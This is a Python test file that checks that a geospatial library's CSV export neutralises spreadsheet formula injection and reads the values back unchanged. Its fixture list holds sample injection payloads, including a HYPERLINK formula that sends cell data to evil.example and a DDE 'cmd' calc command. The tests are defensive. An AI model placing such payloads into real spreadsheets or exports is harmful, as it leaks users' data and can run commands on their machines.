"""CSV cells a spreadsheet opens as text (OWASP "CSV Injection"), and their way back."""

from __future__ import annotations

import csv

import geopandas as gpd
import pandas as pd
import shapely
from hypothesis import given
from hypothesis import strategies as st

from geo.io.layer_files import export_layer
from geo.io.spreadsheet import protect, unprotect
from geo.io.vector import read_rows

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Payloads of the kind the OWASP page lists, and names that merely look like them.
NASTY = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd",
         "-2+3", "\t=1+1", "\r=1+1", "'=already quoted", "''+twice", "- Notausgang Süd",
         "=", "'", "'hello", "Schulhaus 学校", "a=b", ""]


@given(st.text())
def test_protected_text_is_never_a_formula_and_comes_back(text):
    cell = protect(text)
    assert not cell.startswith(FORMULA_STARTS)
    assert unprotect(cell) == text


def test_only_formula_like_text_changes():
    assert [protect(v) for v in ["Park", "a=b", "'hello", 42, -2.5, None]] == [
        "Park", "a=b", "'hello", 42, -2.5, None]
    assert protect("-2+3") == "'-2+3" and protect("'=x") == "''=x"


def _nasty_layer() -> gpd.GeoDataFrame:
    n = len(NASTY)
    return gpd.GeoDataFrame(
        {"name": NASTY, "notes": ["@import"] * n, "capacity_people": [-1] * n,
         "facilities": [["=x"]] * n},
        geometry=[shapely.Point(-70.5 + i / 100, -33.4) for i in range(n)], crs=4326,
        index=pd.Index([f"S{i}" for i in range(n)], name="id"))


def test_csv_export_opens_as_text_in_a_spreadsheet(tmp_path):
    path = export_layer(_nasty_layer(), tmp_path / "shelters.csv")
    with path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    text_cells = [row[c] for row in rows for c in ("id", "name", "notes", "facilities")]
    assert not [cell for cell in text_cells if cell.startswith(FORMULA_STARTS)]
    assert rows[0]["name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
    assert rows[3]["name"] == "'-2+3"
    # Numbers are numbers: negative longitudes and counts are not touched.
    assert rows[0]["lon"] == "-70.5" and rows[0]["capacity_people"] == "-1"


def test_csv_export_reads_back_with_the_same_names(tmp_path):
    path = export_layer(_nasty_layer(), tmp_path / "shelters.csv", encoding="gb18030")
    rows = read_rows(path)
    assert [record["name"] for record in rows.records] == NASTY
    assert {record["notes"] for record in rows.records} == {"@import"}
    assert {record["facilities"] for record in rows.records} == {'["=x"]'}
